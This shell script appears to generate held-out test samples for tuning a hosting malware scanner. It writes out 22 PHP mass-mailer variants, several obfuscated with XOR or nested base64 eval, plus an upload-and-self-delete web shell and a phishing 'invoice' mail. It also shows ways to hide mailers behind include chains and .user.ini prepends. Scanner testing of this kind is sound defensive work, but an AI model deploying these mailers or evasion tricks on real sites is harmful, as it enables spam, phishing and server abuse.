# held.sh - sourced by plant.sh: what mailed, and how it was reached, of shapes that nobody looked at while the scanner was tuned.
# They were written after it, once: 31 of 44 were named first then. Four kinds of their misses have been looked at since (what a
# branch leaves empty, talks with a mail server, addresses in the script, includes from the site's root): who tunes again writes others.

HELD=22
# held N
held() {
	case $1 in
	0) printf 'if ($_SERVER["REQUEST_METHOD"] == "POST") {\n\t$%s = filter_input(INPUT_POST, "%s");\n\tforeach (explode(PHP_EOL, $%s) as $o) mb_send_mail($o, filter_input(INPUT_POST, "%s"), filter_input(INPUT_POST, "%s"));\n}\n' \
		$v_to $f_to $v_to $f_sub $f_body ;;
	1) echo '$f = sprintf("%s%s", "ma", "il");'; loop '$f' ;;
	2) printf '$s = fsockopen("127.0.0.1", 25);\nforeach (explode("\\n", $_%s["%s"]) as $%s) {\n\tfputs($s, "MAIL FROM:<" . $_%s["from"] . ">\\r\\n"); fputs($s, "RCPT TO:<" . trim($%s) . ">\\r\\n");\n\tfputs($s, "DATA\\r\\nSubject: " . $_%s["%s"] . "\\r\\n\\r\\n" . $_%s["%s"] . "\\r\\n.\\r\\n"); fgets($s);\n}\n' \
		$g $f_to $v_to $g $v_to $g $f_sub $g $f_body ;;
	3) echo '$f = implode("", array("m", "a", "i", "l"));'; loop '$f' ;;
	4) printf '$f = $_%s["fn"];\nforeach (explode(",", $_%s["%s"]) as $o) $f($o, $_%s["%s"], $_%s["%s"]);\n' $g $g $f_to $g $f_sub $g $f_body ;;
	5) echo 'function go($t, $k) { for ($o = "", $i = 0; $i < strlen($t); $i++) $o .= $t[$i] ^ $k[$i % strlen($k)]; return $o; }'
		echo '$f = go(base64_decode("BgMNAQ=="), "kbdm");'; loop '$f' ;;
	6) loop mail >"$tmp/code"
		for _ in 1 2 3 4; do base64 -w0 <"$tmp/code" | sed 's/.*/eval(base64_decode("&"));/' >"$tmp/more"; mv "$tmp/more" "$tmp/code"; done
		cat "$tmp/code" ;;
	7) printf 'class Sender {\n\tpublic static function go($r) {\n\t\tforeach (explode("\\n", $r["%s"]) as $o) self::one($o, $r["%s"], $r["%s"]);\n\t}\n\tprivate static function one($a, $b, $c) { return mail($a, $b, $c); }\n}\nSender::go($_%s);\n' \
		$f_to $f_sub $f_body $g ;;
	8) printf 'parse_str(file_get_contents("php://input"), $in);\nforeach ($in["%s"] as $o) mail($o, $in["%s"], $in["%s"]);\n' $f_to $f_sub $f_body ;;
	9) printf '$%s = file($_FILES["%s"]["tmp_name"]);\nforeach ($%s as $o) { mail(trim($o), $_POST["%s"], $_POST["%s"], "MIME-Version: 1.0"); echo "ok<br>"; }\n' $v_to $f_to $v_to $f_sub $f_body ;;
	10) loop mail | hex | sed 's/.*/eval(preg_replace_callback("\/..\/", function ($m) { return chr(hexdec($m[0])); }, "&"));/' ;;
	11) printf '$s = $_%s["%s"]; $b = $_%s["%s"];\narray_walk(explode(",", $_%s["%s"]), function ($x) use ($s, $b) { mail($x, $s, $b); });\n' $g $f_sub $g $f_body $g $f_to ;;
	12) printf '$h = getallheaders();\nforeach (explode(",", $h["X-%s"]) as $o) mail($o, base64_decode($h["X-%s"]), base64_decode($h["X-%s"]));\n' $f_to $f_sub $f_body ;;
	13) printf 'switch ($_%s["a"]) {\ncase "up": move_uploaded_file($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]); break;\ncase "send": foreach (explode("\\n", $_%s["%s"]) as $o) mail($o, $_%s["%s"], $_%s["%s"]); break;\ncase "die": unlink(__FILE__); break;\n}\n' \
		$g $g $f_to $g $f_sub $g $f_body ;;
	14) printf '?><html><body><form method="post"><input name="%s"><textarea name="%s"></textarea><textarea name="%s"></textarea><input type="submit" name="send"></form>\n<?php\nif (isset($_POST["send"])) {\n\t$%s = explode("\\n", $_POST["%s"]); $n = 0;\n\twhile ($n < sizeof($%s)) { $t = trim($%s[$n]); print "$n: $t "; if (mail($t, $_POST["%s"], $_POST["%s"], "From: " . $_POST["from"])) print "sent"; $n++; }\n}\n' \
		$f_sub $f_to $f_body $v_to $f_to $v_to $v_to $f_sub $f_body ;;
	15) printf '$list = array(\n'; for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do printf '"person%s@example.net",\n' $n; done
		printf ');\n$text = <<<HTML\n<html><body><h1>Your invoice</h1><a href="http://198.51.100.7/invoice.zip">open</a></body></html>\nHTML;\nforeach ($list as $o) { mail($o, "Invoice " . rand(1000, 9999), $text, "Content-type: text/html"); sleep(1); }\n' ;;
	16) printf '$p = proc_open("/usr/sbin/sendmail -t", array(array("pipe", "r")), $q);\nfwrite($q[0], base64_decode($_%s["%s"]));\nfclose($q[0]); proc_close($p);\n' $g $f_body ;;
	17) echo '$f = str_replace("#", "", "m#a#i#l");'; loop '$f' ;;
	18) printf '$c = new mysqli("localhost", "u", "p", "d");\n$q = $c->query("SELECT address FROM people");\nwhile ($r = $q->fetch_row()) { mail($r[0], $_%s["%s"], $_%s["%s"]); usleep(500); }\n' $g $f_sub $g $f_body ;;
	19) echo '$f = strtr("mzxl", "zx", "ai");'; loop '$f' ;;
	20) printf '$d = unserialize(gzuncompress(base64_decode($_%s["%s"])));\nforeach ($d->list as $o) { $text = preg_replace_callback("/\\{([^}]*)\\}/", function ($m) { $w = explode("|", $m[1]); return $w[array_rand($w)]; }, $d->text); mail($o, $d->title, $text); }\n' $g $f_body ;;
	21) printf 'define("WHO", "%s");\nfunction all() { return isset($_%s[WHO]) ? array_unique(array_filter(array_map("trim", preg_split("/\\s+/", $_%s[WHO])))) : array(); }\nfunction body($o) { return str_ireplace(array("[email]", "[time]"), array($o, date("r")), stripslashes($_%s["%s"])); }\nforeach (all() as $o) mail($o, $_%s["%s"], body($o));\n' \
		$f_to $g $g $g $f_body $g $f_sub ;;
	esac
}

# How the script that is asked for comes to the one that mails: $truth, and the file AT/FILE.
held_chain() { # CHAIN AT FILE
	case $1 in
	variable) truth=$2/lang.inc; echo '$d = dirname(__FILE__) . "/"; $n = "lang"; include $d . $n . ".inc";' | put "$2/$3" ;;
	deep) truth=${2%/*/*}/lib/a/b.php; echo 'require_once dirname(dirname(dirname(__FILE__))) . "/lib/a/b.php";' | put "$2/$3" ;;
	docroot) truth=$site/lib/x.inc; echo 'include $_SERVER["DOCUMENT_ROOT"] . "/lib/x.inc";' | put "$2/$3" ;;
	prepend) truth=$2/.x.inc; mkdir -p "$2"; echo "auto_prepend_file=$2/.x.inc" >"$2/.user.ini"; echo 'echo "page";' | put "$2/$3" ;;
	esac
}
